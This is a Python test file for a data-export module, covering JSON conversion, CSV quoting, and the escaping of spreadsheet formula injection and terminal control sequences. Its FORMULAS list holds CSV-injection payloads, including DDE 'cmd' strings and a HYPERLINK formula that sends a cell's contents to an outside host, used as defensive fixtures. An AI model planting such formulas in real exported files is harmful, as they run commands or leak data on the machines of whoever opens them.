import csv
import io
import json
import math
import os
import sys
from datetime import date
from decimal import Decimal

import pandas as pd
import pytest

from polylight.errors import InputError
from polylight.inspect.export import to_csv, to_json, write_out


def test_values_that_json_does_not_have():
    names = ["nan", "inf", "decimal", "bytes", "date", "map", "list", "text"]
    row = (math.nan, -math.inf, Decimal("1.5"), b"\0\xff", date(2026, 1, 2), {1: math.nan})
    text = to_json(names, [(*row, [None, True, math.inf], 'ü"\n')])
    assert "ü" in text
    assert json.loads(text) == [
        {
            "nan": None,
            "inf": None,
            "decimal": 1.5,
            "bytes": "AP8=",
            "date": "2026-01-02",
            "map": {"1": None},
            "list": [None, True, None],
            "text": 'ü"\n',
        }
    ]
    with pytest.raises(InputError, match=r"two columns are called 'a'.*rename one"):
        to_json(["a", "b", "a"], [])


def test_fields_that_csv_has_to_quote():
    row = ("a,b", 'say "ü"', "two\r\nlines", None, False, [1, None], {"a": b"\0"}, 0.1 + 0.2, b"\0")
    text = to_csv(list("abcdefghi"), [row])
    assert text == (
        "a,b,c,d,e,f,g,h,i\r\n"
        '"a,b","say ""ü""","two\r\nlines",,false,"[1, null]","{""a"": ""AA==""}",'
        "0.30000000000000004,AA==\r\n"
    )
    assert next(csv.reader(io.StringIO(text.split("\r\n", 1)[1], newline="")))[:3] == list(row[:3])


# What a spreadsheet would run or send away, and what only looks like it.
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-max(a:0):1",
    "-a!b:1",
    "-a:1@A1",
    "'=1",
    "'",
]
HARMLESS = [
    "-blocks.4:17",
    "-blocks.4:17@center",
    "-Ebene-ü/conv_2:0@3x5",
    "max(-blocks.4:0,blocks.4:5)",
    "blocks.4:0",
    "a=b",
    "",
]


def test_no_text_is_a_formula_and_every_text_comes_back():
    texts = [*FORMULAS, *HARMLESS]
    text = to_csv(["neuron", "=cmd"], [(value, -1.5) for value in texts])
    head, *rows = csv.reader(io.StringIO(text, newline=""))
    assert head == ["neuron", "'=cmd"]
    assert [row[1] for row in rows] == ["-1.5"] * len(texts)
    cells = [row[0] for row in rows]
    assert cells == [*(f"'{value}" for value in FORMULAS), *HARMLESS]
    assert [cell.removeprefix("'") for cell in cells] == texts


def test_pandas_reads_names_and_numbers_as_they_are():
    rows = [("-blocks.4:17", -0.5, 1), ("=1+1", None, -2)]
    text = to_csv(["neuron", "score", "n"], rows)
    frame = pd.read_csv(io.StringIO(text))
    assert frame["neuron"].tolist() == ["-blocks.4:17", "'=1+1"]
    assert frame["neuron"].str.removeprefix("'").tolist() == ["-blocks.4:17", "=1+1"]
    assert frame["score"].tolist()[0] == -0.5
    assert math.isnan(frame["score"].tolist()[1])
    assert frame["n"].tolist() == [1, -2]


HOSTILE = "\x1b[2J\t\x9b\r\n"


@pytest.mark.parametrize(
    ("is_terminal", "expected"), [(True, "\\x1b[2J\t\\x9b\r\n"), (False, HOSTILE)]
)
def test_a_terminal_obeys_nothing_and_a_program_gets_all(monkeypatch, is_terminal, expected):
    out = io.StringIO(newline="")
    monkeypatch.setattr(out, "isatty", lambda: is_terminal)
    monkeypatch.setattr(sys, "stdout", out)
    write_out(HOSTILE)
    assert out.getvalue() == expected


def test_a_reader_that_has_gone_is_no_error(monkeypatch):
    reading, writing = os.pipe()
    os.close(reading)
    with os.fdopen(writing, "w") as gone:
        monkeypatch.setattr(sys, "stdout", gone)
        write_out("a" * 100_000)
        write_out("what comes later")
